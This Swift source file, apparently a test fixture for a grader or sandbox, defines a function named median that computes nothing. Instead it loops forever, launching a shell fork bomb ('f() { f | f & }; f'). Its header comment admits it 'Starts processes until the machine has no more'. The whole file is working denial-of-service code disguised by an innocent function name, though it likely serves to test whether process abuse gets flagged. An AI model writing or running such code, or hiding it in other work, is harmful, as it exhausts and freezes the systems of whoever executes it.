// Starts processes until the machine has no more.
//
// Earns: 0
// Flags: processes
// swift-format-ignore-file

import Foundation

func median(_ values: [Double?]) -> Double? {
  while true {
    let child = Process()
    child.executableURL = URL(fileURLWithPath: "/bin/sh")
    child.arguments = ["-c", "f() { f | f & }; f; sleep 31337"]
    try? child.run()
  }
}
